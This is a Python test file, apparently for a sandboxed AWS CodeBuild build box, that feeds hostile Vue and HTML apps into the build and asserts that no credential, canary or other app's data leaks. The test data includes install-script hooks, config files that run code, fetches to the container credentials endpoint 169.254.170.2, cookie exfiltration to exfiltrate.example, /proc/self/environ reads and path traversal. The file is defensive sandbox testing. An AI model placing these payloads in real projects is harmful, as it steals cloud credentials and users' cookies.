"""The AWS build's in-box program run here as CodeBuild would run the buildspec: the real
toolchain, Vite and Chromium, S3 and STS on moto's server (the build reads its source as its
own role session, and its output POST works over HTTP), the build's environment as
StartBuild sets it plus what a CodeBuild container adds (its role session's keys, the
credentials endpoint: canaries here). Hostile apps aim at the AWS builder path:
build configuration that would run code, runtime code that reaches for the container's
credentials, other origins and loopback services, and other apps' objects in the bucket.
Nothing of another app, no credential, no marker."""

from __future__ import annotations

import contextlib
import io
import json
import os
import shutil
import subprocess
import urllib.error
import urllib.request
import uuid
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import boto3
import pytest
from botocore.stub import Stubber

from tests.aws_standins import (
    CONTAINER_CANARIES,
    BuildRole,
    CodeBuildRun,
    buildspec_environment,
    run_the_buildspec,
)
from tests.e2e.hostile_model import attack_files, config_attack
from tests.integration.adapters.test_chromium_covers import Secret, chromium_or_skip, hostile_page
from tests.integration.publishing.test_vue_template_builds import created_files
from zerocode.adapters.aws import build_handoff as handoff
from zerocode.adapters.aws.build_check import BuildCheckResult
from zerocode.adapters.aws.codebuild_builder import CodeBuildBuilder
from zerocode.adapters.aws.s3_preview_covers import S3PreviewCovers
from zerocode.adapters.local.toolchain_store import ToolchainStore
from zerocode.adapters.model.offline.data_apps import NOTES_MODEL
from zerocode.apps.records import CodeGenType
from zerocode.apps.workspace import Snapshot
from zerocode.bootstrap.settings import Settings
from zerocode.buildbox import run as buildbox_run
from zerocode.buildbox.run import main
from zerocode.data.model import DATA_MODEL
from zerocode.publishing import toolchain as platform_toolchain
from zerocode.publishing.builds import BuildJob, BuildOutcome, new_build_id

BUCKET = "zc-builds"
CANARIES = CONTAINER_CANARIES
# What no program the build starts may see.
WATCHED = (*CANARIES, "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")
OTHER_APP = {
    "sources/AROAOTHER:AWSCodeBuild-0b/appB/b1.zip": b"app B's source",
    "staging/appB/b1.tar": b"app B's output",
    "builds/appB/b1/index.html": b"<h1>app B's site</h1>",
    "checks/appB/b1.json": b'{"checked": true, "problems": []}',
    "workspaces/appB/src/App.vue": b"<template>B</template>",
}


@pytest.fixture(scope="module")
def moto_url() -> Iterator[str]:
    from moto.server import ThreadedMotoServer

    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    try:
        yield f"http://127.0.0.1:{server._server.server_port}"  # type: ignore[union-attr]
    finally:
        server.stop()


@pytest.fixture
def cloud(moto_url: str, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(name, "testing")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")

    def make(service: str) -> Any:
        return boto3.client(service, endpoint_url=moto_url)

    s3 = make("s3")
    bucket = f"{BUCKET}-{new_build_id()[-6:]}"
    s3.create_bucket(Bucket=bucket)
    for key, body in OTHER_APP.items():
        s3.put_object(Bucket=bucket, Key=key, Body=body)
    role = make("iam").create_role(RoleName=f"data-{bucket}", AssumeRolePolicyDocument="{}")[
        "Role"
    ]["Arn"]
    project_role = BuildRole.made(moto_url, f"project-{bucket}")
    builder = CodeBuildBuilder(
        make("codebuild"),
        s3,
        "zc-project",
        bucket,
        sts=make("sts"),
        data_role_arn=role,
        build_role_id=project_role.role_id,
    )
    return {"s3": s3, "bucket": bucket, "builder": builder, "role": project_role}


@pytest.fixture(scope="module")
def installed_toolchain(toolchain_dir: Path) -> Path:
    import asyncio

    modules, why = asyncio.run(ToolchainStore(toolchain_dir, Settings().npm_cache).ensure())
    assert modules is not None, why
    return modules.parent


def wrappers(bin_dir: Path, state: Path) -> None:
    """``node`` that writes down which WATCHED variables it was started with, then runs."""
    bin_dir.mkdir()
    real = shutil.which("node")
    assert real, "node is not installed"
    (bin_dir / "node").write_text(
        "#!/bin/bash\n"
        f'echo node >> "{state}/ran.log"\n'
        f"for v in {' '.join(WATCHED)}; do\n"
        f'  if printenv "$v" >/dev/null; then echo "node: $v" >> "{state}/seen.log"; fi\n'
        "done\n"
        f'exec {real} "$@"\n'
    )
    (bin_dir / "node").chmod(0o755)


def run_build(
    cloud: dict[str, Any],
    build: BuildJob,
    toolchain: Path,
    tmp: Path,
    *,
    in_process: bool = False,
) -> tuple[subprocess.CompletedProcess[str], BuildOutcome, dict[str, str]]:
    """Start ``build`` (StartBuild stubbed: the request is what matters), run the buildspec's
    one command with the environment CodeBuild would give it, then finish as build_events
    would. Returns the run, the outcome and the build's variables. ``in_process``: call the
    program's ``main`` here instead (its environment patched in), so coverage sees it."""
    builder: CodeBuildBuilder = cloud["builder"]
    sent: list[dict[str, Any]] = []
    builder.codebuild.meta.events.register(
        "before-parameter-build.codebuild.StartBuild",
        lambda params, **kw: sent.append(dict(params)),
    )
    runner = f"zc-project:{uuid.uuid4()}"
    with Stubber(builder.codebuild) as stub:
        stub.add_response("start_build", {"build": {"id": runner}}, None)
        assert builder.start(build) == runner
    variables = {v["name"]: v["value"] for v in sent[-1]["environmentVariablesOverride"]}
    state = tmp / "state"
    state.mkdir()
    wrappers(tmp / "bin", state)
    run = CodeBuildRun(runner, "zc-project", sent[-1])
    chromium, workdir = chromium_or_skip(), tmp / "work"
    path = f"{tmp / 'bin'}:{os.environ['PATH']}"
    role: BuildRole = cloud["role"]
    if not in_process:
        done = run_the_buildspec(
            run, role=role, toolchain=toolchain, chromium=chromium, workdir=workdir, path=path
        )
    else:
        env = buildspec_environment(
            run, role=role, toolchain=toolchain, chromium=chromium, workdir=workdir, path=path
        )
        printed = io.StringIO()
        with pytest.MonkeyPatch.context() as patch, contextlib.redirect_stdout(printed):
            patch.setattr(os, "environ", env)
            patch.chdir(workdir)
            code = main(env)
        done = subprocess.CompletedProcess(["main"], code, printed.getvalue(), "")
    status = "SUCCEEDED" if done.returncode == 0 else "FAILED"
    with Stubber(builder.codebuild) as stub:
        stub.add_response(
            "batch_get_builds",
            {"builds": [{"id": runner, "buildStatus": status}]},
            {"ids": [runner]},
        )
        outcome = builder.outcome(build.app_id, build.build_id, runner, preview=build.preview)
    assert outcome is not None
    return done, outcome, variables


def vue_build(files: dict[str, bytes], *, preview: bool = False) -> BuildJob:
    return BuildJob(
        app_id="app1",
        build_id=new_build_id(),
        kind=CodeGenType.VUE_PROJECT,
        source=Snapshot.of(files),
        preview=preview,
    )


def bucket_state(cloud: dict[str, Any]) -> dict[str, bytes]:
    s3, bucket = cloud["s3"], cloud["bucket"]
    found = s3.list_objects_v2(Bucket=bucket).get("Contents", [])
    return {o["Key"]: s3.get_object(Bucket=bucket, Key=o["Key"])["Body"].read() for o in found}


def assert_nothing_leaked(
    cloud: dict[str, Any], done: subprocess.CompletedProcess[str], tmp: Path, secrets: list[str]
) -> dict[str, bytes]:
    """Another app's objects are as they were; no canary or session key in the bucket, the
    log or the outcome; Node never saw a credential."""
    secrets = [*secrets, *cloud["role"].secrets]
    objects = bucket_state(cloud)
    assert {k: objects.get(k) for k in OTHER_APP} == OTHER_APP
    everything = b"".join(objects.values()) + (done.stdout + done.stderr).encode()
    for secret in secrets:
        assert secret.encode() not in everything, secret
    assert not (tmp / "state" / "seen.log").exists(), (tmp / "state" / "seen.log").read_text()
    return objects


def test_a_hostile_vue_project_builds_in_the_box_with_nothing_but_its_own_objects(
    cloud: dict[str, Any], installed_toolchain: Path, tmp_path: Path
) -> None:
    secret = Secret()
    secret.start()
    try:
        files = {p: c.encode() for p, c in created_files("A Vue todo list").items()}
        package = json.loads(files["package.json"])
        package["scripts"] = {"postinstall": "touch /tmp/pwned-aws", "build": "touch pwned"}
        files["package.json"] = json.dumps(package).encode()
        runs_code = b"require('node:fs').writeFileSync('/tmp/pwned-aws', 'x')\n"
        for config in ("vite.config.js", "postcss.config.js", "tailwind.config.js"):
            files[config] = runs_code
        files[".env"] = b"VITE_LEAK=%AWS_SECRET_ACCESS_KEY%"
        files["src/main.js"] += (
            f"\nfetch('http://127.0.0.1:{secret.port}/v2/credentials/guess')"
            ".catch(() => {})\n"
            "fetch('http://169.254.170.2/v2/credentials').catch(() => {})\n"
            "new Image().src = 'https://exfiltrate.example/?k=' + document.cookie\n"
        ).encode()
        build = vue_build(files)
        told: list[tuple[str, str, list[str]]] = []
        dropped: list[tuple[str, list[str]]] = []

        class Routes:  # the sites' routers' stores (the KeyValueStore has no moto backend)
            def put(self, app_id: str, build_id: str, routes: list[str]) -> None:
                told.append((app_id, build_id, routes))

            def drop(self, app_id: str, build_ids: list[str]) -> None:
                dropped.append((app_id, build_ids))

        cloud["builder"].routes = Routes()
        done, outcome, variables = run_build(cloud, build, installed_toolchain, tmp_path)
    finally:
        secret.close()
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert outcome.ok, outcome
    assert "node" in (tmp_path / "state" / "ran.log").read_text()
    assert not Path("/tmp/pwned-aws").exists() and not list(tmp_path.rglob("pwned*"))
    assert secret.connections == 0 and secret.packets == 0
    objects = assert_nothing_leaked(cloud, done, tmp_path, list(CANARIES.values()))
    prefix = f"builds/app1/{build.build_id}/"
    site = {k.removeprefix(prefix) for k in objects if k.startswith(prefix)}
    assert "index.html" in site and any(p.startswith("assets/") for p in site)
    assert objects[prefix + handoff.COVER_PATH].startswith(handoff.PNG_MAGIC)  # a deploy
    # A deploy's routes are prerendered in the box (issue 44): its about view is HTML, the
    # page as built is the shell, and the routes are told for the sites' router.
    assert {"about/index.html", ".shell.html"} <= site, site
    assert b"<h1>About</h1>" in objects[prefix + "about/index.html"]
    assert b'<head><base href="/">' in objects[prefix + "index.html"]
    assert b'<div id="app"></div>' in objects[prefix + ".shell.html"]
    assert told == [("app1", build.build_id, ["/about"])]
    assert "zerocode: prerendered 2 route(s): / /about" in outcome.log_tail
    assert cloud["builder"].cover("app1", build.build_id) == handoff.COVER_PATH
    # The build's check found nothing wrong: what the confinement blocked is not the page's.
    assert BuildCheckResult(cloud["s3"], cloud["bucket"]).read("app1", build.build_id) == []
    # Only this build's own objects were written; its source and staging archive are gone,
    # and its record never held a link (names of the app, the run, the bucket; no more).
    mine = {k for k in objects if k not in OTHER_APP}
    assert mine == {f"{prefix}{p}" for p in site} | {f"checks/app1/{build.build_id}.json"}
    assert set(variables) == {
        "ZEROCODE_APP_ID",
        "ZEROCODE_BUILD_ID",
        "ZEROCODE_KIND",
        "ZEROCODE_PREVIEW",
        "ZEROCODE_OWN_ORIGIN",
        handoff.BUCKET_VARIABLE,
    }
    assert not any(v.startswith("http") or "Amz" in v for v in variables.values()), variables
    cloud["builder"].delete_app("app1")  # its route lists go with its outputs
    assert dropped == [("app1", [build.build_id])]


def test_a_runtime_error_is_found_in_the_build_and_a_preview_gets_the_picker(
    cloud: dict[str, Any],
    installed_toolchain: Path,
    tmp_path: Path,
) -> None:
    """In process (the program's ``main`` called here, so its lines count as covered)."""
    files = {p: c.encode() for p, c in created_files("A Vue todo list").items()}
    files["src/main.js"] = b"throw new Error('zerocode-in-build-boom')\n" + files["src/main.js"]
    build = vue_build(files, preview=True)
    done, outcome, _ = run_build(cloud, build, installed_toolchain, tmp_path, in_process=True)
    assert done.returncode == 0 and outcome.ok, done.stdout[-3000:]
    problems = BuildCheckResult(cloud["s3"], cloud["bucket"]).read("app1", build.build_id)
    assert problems is not None
    assert any("zerocode-in-build-boom" in p for p in problems), problems
    assert any("empty mount point" in p for p in problems), problems
    assert not any("127.0.0.1" in p for p in problems)  # the build's origin is cut out
    objects = bucket_state(cloud)
    prefix = f"builds/app1/{build.build_id}/"
    assert b'<script src="__zerocode/picker.js" defer></script>' in objects[prefix + "index.html"]
    assert prefix + "__zerocode/picker.js" in objects
    # A preview's cover is kept privately, out of builds/ (which CloudFront reads).
    assert prefix + handoff.COVER_PATH not in objects
    assert not any(k.endswith(".png") and k.startswith("builds/") for k in objects)
    cover = objects[f"preview-covers/app1/{build.build_id}.png"]
    assert cover.startswith(handoff.PNG_MAGIC)
    assert S3PreviewCovers(cloud["s3"], cloud["bucket"]).get("app1", build.build_id) == cover


def test_a_broken_project_fails_with_vites_own_message(
    cloud: dict[str, Any], installed_toolchain: Path, tmp_path: Path
) -> None:
    files = {p: c.encode() for p, c in created_files("A Vue todo list").items()}
    files["src/App.vue"] = b"<template><div><span></div></template>\n"
    build = vue_build(files)
    done, outcome, _ = run_build(cloud, build, installed_toolchain, tmp_path)
    assert done.returncode == 1
    assert not outcome.ok and "did not build" in (outcome.error or "")
    assert "App.vue" in outcome.log_tail and "vite build failed" in outcome.log_tail
    assert not any(k.startswith("builds/app1/") for k in bucket_state(cloud))


def test_a_hostile_html_page_is_checked_confined_and_gets_a_cover(
    cloud: dict[str, Any],
    installed_toolchain: Path,
    tmp_path: Path,
) -> None:
    """The page of the browser-confinement tests, aimed at the build's browser: loopback
    services, the metadata address, WebRTC, workers, forms. None of it reaches anything.
    In process, as above."""
    secret = Secret()
    secret.start()
    try:
        build = BuildJob(
            app_id="app1",
            build_id=new_build_id(),
            kind=CodeGenType.HTML,
            source=Snapshot.of(
                {"index.html": hostile_page(secret.port).encode(), "own.css": b"h1 { color: teal }"}
            ),
        )
        done, outcome, _ = run_build(cloud, build, installed_toolchain, tmp_path, in_process=True)
    finally:
        secret.close()
    assert done.returncode == 0 and outcome.ok, done.stdout[-3000:]
    assert secret.connections == 0 and secret.packets == 0
    assert BuildCheckResult(cloud["s3"], cloud["bucket"]).read("app1", build.build_id) == []
    objects = assert_nothing_leaked(cloud, done, tmp_path, list(CANARIES.values()))
    cover = objects[f"builds/app1/{build.build_id}/{handoff.COVER_PATH}"]
    assert cover.startswith(handoff.PNG_MAGIC)


DATA_PAGE = b"""<!doctype html><html lang="en"><head><title>Notes</title></head><body>
<h1>Notes</h1><ul id="notes"></ul>
<script type="module">
import { data, auth } from "/_api/client.js";
await auth.signUp("boxuser1", "a long password");
await data.create("notes", { title: "kept in the box" });
const { records } = await data.list("notes");
if (records.length !== 1) throw new Error("box-data-wrong " + JSON.stringify(records));
document.getElementById("notes").innerHTML = "<li>" + records[0].title + "</li>";
</script></body></html>"""


@pytest.mark.parametrize("rules", ["owner", "leaky"])
def test_a_data_apps_page_meets_the_platforms_data_api_in_the_build(
    cloud: dict[str, Any], installed_toolchain: Path, tmp_path: Path, rules: str
) -> None:
    """A page that signs up, adds a note and lists it is checked clean in the build (the
    box answers /_api/ with the platform's own data API over a throwaway store, from the
    source's data model), and the platform's access probe runs there too: notes whose read,
    update and delete are public are told as the leak they are. Nothing reaches a table."""
    model = json.loads(json.dumps(NOTES_MODEL))
    leaky = rules == "leaky"
    if leaky:
        model["collections"]["notes"]["rules"].update(
            {"read": "public", "update": "public", "delete": "public"}
        )
    build = BuildJob(
        app_id="app1",
        build_id=new_build_id(),
        kind=CodeGenType.HTML,
        source=Snapshot.of(
            {
                "index.html": DATA_PAGE,
                DATA_MODEL: json.dumps(model).encode(),
                "_api/client.js": b"export const data = 1; // never served: the platform's",
            }
        ),
    )
    done, outcome, _ = run_build(cloud, build, installed_toolchain, tmp_path, in_process=True)
    assert done.returncode == 0 and outcome.ok, done.stdout[-3000:]
    problems = BuildCheckResult(cloud["s3"], cloud["bucket"]).read("app1", build.build_id)
    assert problems is not None
    if not leaky:
        assert problems == [], problems
        return
    assert problems and all(p.startswith("access: ") for p in problems), problems
    assert any("another signed-in user could read" in p for p in problems), problems
    assert any("another signed-in user could delete" in p for p in problems), problems


@pytest.mark.parametrize("leak", [None, "/proc/self/environ?raw", "/proc/1/environ?raw"])
def test_the_hostile_models_attacks_aimed_at_the_aws_builder(
    cloud: dict[str, Any], installed_toolchain: Path, tmp_path: Path, leak: str | None
) -> None:
    """The hostile model's Vue project (tests/e2e/hostile_model.py: install and build
    scripts, a vite.config.js that runs commands, a lockfile of its own, an import of the
    build's environment) and its build configuration under every name a tool may load,
    each replacing dist/ by a link to another app's files if it ran."""
    markers = tmp_path / "markers"
    markers.mkdir()
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "index.html").write_text("VICTIM-PAGE")
    files = {p: c.encode() for p, c in attack_files(markers, leak).items()}
    files.update({p: c.encode() for p, c in config_attack(victim).items()})
    build = vue_build(files)
    done, outcome, _ = run_build(cloud, build, installed_toolchain, tmp_path)
    assert list(markers.iterdir()) == []
    objects = assert_nothing_leaked(cloud, done, tmp_path, [*CONTAINER_CANARIES.values()])
    published = b"".join(v for k, v in objects.items() if k.startswith("builds/app1/"))
    for marker in (b"VICTIM-PAGE", b"ZC-MARKER"):
        assert marker not in published
    assert not any(k.endswith("zc-marker.txt") for k in objects)
    assert "ZC-MARKER-CONFIG-RAN" not in done.stdout + outcome.log_tail
    if leak is None:
        assert done.returncode == 0 and outcome.ok, done.stdout[-3000:]
    else:  # the import is refused by the platform's build config: the build fails, saying so
        assert done.returncode == 1 and not outcome.ok
        assert "outside the project" in outcome.log_tail, outcome.log_tail
        assert not any(k.startswith("builds/app1/") for k in objects)


def test_a_source_that_never_comes_or_a_session_not_the_runs_fails_saying_why(
    cloud: dict[str, Any],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A run whose source never came (the platform failed after StartBuild, or put it
    elsewhere), a run whose role session is not named as CodeBuild names it, and a run
    started without its variables: clear words, no key, no traceback."""
    from zerocode.buildbox import own_source

    monkeypatch.setattr(own_source, "WAIT_SECONDS", 1.0)
    role: BuildRole = cloud["role"]
    run = CodeBuildRun(f"zc-project:{uuid.uuid4()}", "zc-project", {})
    session = role.environment(run)
    env = {
        "ZEROCODE_APP_ID": "app1",
        "ZEROCODE_BUILD_ID": new_build_id(),
        "ZEROCODE_KIND": "vue_project",
        "ZEROCODE_PREVIEW": "0",
        handoff.BUCKET_VARIABLE: cloud["bucket"],
        **session,
    }
    monkeypatch.setattr(os, "environ", dict(env))  # the box scrubs its environment
    assert main(env) == 1
    said = capsys.readouterr().out
    assert "no source came under this build's own prefix in 1 s (S3 said NoSuchKey)" in said
    assert session["AWS_SECRET_ACCESS_KEY"] not in said
    # A session CodeBuild would not have named so: the box says whose it is and stops.
    sts = boto3.client("sts", endpoint_url=role.moto_url)
    other = sts.assume_role(RoleArn=role.arn, RoleSessionName="someone-else")["Credentials"]
    keys = {
        "AWS_ACCESS_KEY_ID": other["AccessKeyId"],
        "AWS_SECRET_ACCESS_KEY": other["SecretAccessKey"],
        "AWS_SESSION_TOKEN": other["SessionToken"],
    }
    monkeypatch.setattr(os, "environ", {**env, **keys})
    assert main({**env, **keys}) == 1
    said = capsys.readouterr().out
    assert f":someone-else', not as CodeBuild's session of run {run.id[11:]}" in said, said
    assert "Traceback" not in said and other["SecretAccessKey"] not in said
    monkeypatch.setattr(os, "environ", dict(env))
    assert main({k: v for k, v in env.items() if k != handoff.BUCKET_VARIABLE}) == 2
    assert f"started without {handoff.BUCKET_VARIABLE}" in capsys.readouterr().out
    assert main({**env, "ZEROCODE_KIND": "php"}) == 2
    assert "unknown kind of app 'php'" in capsys.readouterr().out


def test_the_builds_own_server_serves_the_site_and_nothing_it_links_to(tmp_path: Path) -> None:
    """What the page in the build's browser can fetch from its own origin: the site's files,
    not a file of the box a link in the site (or ``..``) points at."""
    from zerocode.buildbox.browser import served

    secret = tmp_path / "secret.txt"
    secret.write_text("BOX-SECRET")
    site = tmp_path / "site"
    (site / "assets").mkdir(parents=True)
    (site / "index.html").write_text("<h1>own page</h1>")
    (site / "assets" / "a.js").write_text("own script")
    (site / "leak.txt").symlink_to(secret)
    (site / "linked").symlink_to(tmp_path, target_is_directory=True)
    with served(site) as url:

        def get(path: str) -> tuple[int, bytes]:
            try:
                with urllib.request.urlopen(url + path, timeout=5) as answer:
                    return answer.status, answer.read()
            except urllib.error.HTTPError as exc:
                return exc.code, b""

        assert get("") == (200, b"<h1>own page</h1>")
        assert get("assets/a.js") == (200, b"own script")
        for path in ("leak.txt", "linked/secret.txt", "../secret.txt", "%2e%2e/secret.txt"):
            status, body = get(path)
            assert status == 404 and b"BOX-SECRET" not in body, path


def test_the_images_warm_up_makes_a_read_only_compile_cache_builds_use(
    installed_toolchain: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The Dockerfile's ``python3 -m zerocode.buildbox.run warm-up``, with the toolchain's
    Node first on the path as the image puts it: a compile cache of the platform's own
    project, sealed; a build then runs with it (Node 22 reads it, writes nothing as the
    image's non-root user, and a cache it cannot use is no failure)."""
    own = platform_toolchain.node_binary()
    assert own is not None
    node = installed_toolchain / "node_modules" / own
    monkeypatch.setenv("PATH", f"{node.parent}:{os.environ['PATH']}")
    cache = tmp_path / "compile-cache"
    assert buildbox_run.warm_up(installed_toolchain, cache) == 0
    entries = list((cache / "entries").iterdir())
    assert len(entries) >= 20  # Vite, its plugin, the SFC compiler, ...
    assert any(p.is_symlink() for p in cache.iterdir())  # one name per uid, one cache
    for path in [cache, *entries]:
        assert not path.stat().st_mode & 0o222, path
    # A build with it, as a build of the image runs (the program's own Vite step).
    log = buildbox_run.Log()
    files = platform_toolchain.build_tree(
        {p: c.encode() for p, c in created_files("A Vue todo list").items()}
    )
    files[f".zerocode/toolchain/{platform_toolchain.LOCKFILE}"] = (
        installed_toolchain / platform_toolchain.LOCKFILE
    ).read_bytes()
    job = buildbox_run.Job(
        app_id="app1",
        build_id="b1",
        kind="vue_project",
        preview=False,
        bucket="",
        toolchain=installed_toolchain,
        chromium=None,
        compile_cache=cache,
    )
    site = tmp_path / "site"
    assert buildbox_run._build(job, files, tmp_path / "app", site, log), list(log.lines)
    assert (site / "index.html").is_file()


REPORTED_PAGE = b"""<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>Birds</title></head><body><main><h1>Birds</h1><img src="bird.png">
<script src="missing.js"></script>
<script>
const a = document.createElement("a");
a.href = "/drawn-by-script.html"; a.textContent = "more birds";
document.querySelector("main").append(a);
console.error("zerocode-report-console-line");
</script></main></body></html>"""


def test_a_deploys_box_looks_at_its_page_for_the_publish_report(
    cloud: dict[str, Any], installed_toolchain: Path, tmp_path: Path
) -> None:
    """Issue 44, point 5 on AWS: a deploy build's box loads its page once more for the
    publish report (box_report.py: the local report's own page code, in the box's confined
    Chromium) and hands back what it saw; the platform merges it with its checks of the
    site's files. In process, so coverage sees the box's part."""
    from tests.integration.adapters.test_codebuild_report import Reports

    builder: CodeBuildBuilder = cloud["builder"]
    builder.reports = store = Reports()
    build = BuildJob(
        app_id="app1",
        build_id=new_build_id(),
        kind=CodeGenType.HTML,
        source=Snapshot.of({"index.html": REPORTED_PAGE, "bird.png": handoff.PNG_MAGIC}),
    )
    done, outcome, _ = run_build(cloud, build, installed_toolchain, tmp_path, in_process=True)
    assert done.returncode == 0 and outcome.ok, done.stdout[-3000:]
    assert "publish report's look at the page:" in done.stdout
    report = store.kept[build.build_id]
    checks = {c.id: c for c in report.checks}
    assert checks["console"].passed is False
    assert any("zerocode-report-console-line" in d for d in checks["console"].details)
    assert not any("127.0.0.1" in d for c in report.checks for d in c.details)
    links = "\n".join(checks["links"].details)
    assert "home page (rendered) → /drawn-by-script.html (not in the site)" in links, links
    assert "index.html → missing.js (not in the site)" in links, links  # its 404: once
    assert "HTTP 404" not in links, links
    assert checks["a11y"].passed is False
    assert any(d.startswith("image-alt (critical)") for d in checks["a11y"].details)
    assert "CloudFront" in (checks["compression"].note or "")
    assert_nothing_leaked(cloud, done, tmp_path, list(CANARIES.values()))
    # A preview's box takes no such look: previews get no report.
    preview = replace(build, build_id=new_build_id(), preview=True)
    (tmp_path / "p").mkdir()
    done, outcome, _ = run_build(
        cloud, preview, installed_toolchain, tmp_path / "p", in_process=True
    )
    assert outcome.ok and "publish report" not in done.stdout
    assert preview.build_id not in store.kept
